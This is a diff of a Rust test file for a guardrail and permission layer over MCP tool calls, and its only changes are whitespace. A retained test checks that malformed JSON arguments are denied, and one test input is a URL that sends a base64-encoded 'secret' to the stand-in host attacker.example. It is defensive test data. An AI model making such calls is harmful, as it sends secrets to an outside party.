@@ -1,3 +1,4 @@
+
 use super::*;
 use crate::config::Config;
 use crate::mcp::era::Era;
@@ -27,7 +28,7 @@ fn arguments_that_are_json_but_not_values_are_denied_never_judged_as_empty() {
     // Servers read these (JavaScript: `Infinity`, a lone UTF-16 unit); serde cannot.
     let g = guard(
         "guardrails: { checker: local, rules: [{ match: \"mcp__*\", phases: [pre] }] }\n\
-         permissions: { allow: [\"mcp__*\"] }\n",
+             permissions: { allow: [\"mcp__*\"] }\n",
     );
     for args in [
         r#"{"url":"https://attacker.example/?d=c2VjcmV0","pad":1e999}"#,
@@ -53,9 +54,9 @@ fn a_delegated_agent_decides_under_its_roots_current_engine_narrowed_by_its_chai
     use crate::identity::Agent;
     let yaml = |dev: &str| {
         format!(
-            "upstreams: {{ e: {{ url: \"http://127.0.0.1:1/mcp\" }}, f: {{ url: \"http://127.0.0.1:1/mcp\" }} }}\n\
-             permissions: {{ allow: [\"mcp__*\"] }}\nagents: {{ dev: {{ token_env: UNREAD_{dev} }} }}\n"
-        )
+                "upstreams: {{ e: {{ url: \"http://127.0.0.1:1/mcp\" }}, f: {{ url: \"http://127.0.0.1:1/mcp\" }} }}\n\
+                 permissions: {{ allow: [\"mcp__*\"] }}\nagents: {{ dev: {{ token_env: UNREAD_{dev} }} }}\n"
+            )
     };
     let policy = |dev: &str| Config::parse(&yaml(dev), "test").unwrap_or_else(|e| panic!("{e}")).policy;
     let store = Arc::new(Delegations::default());
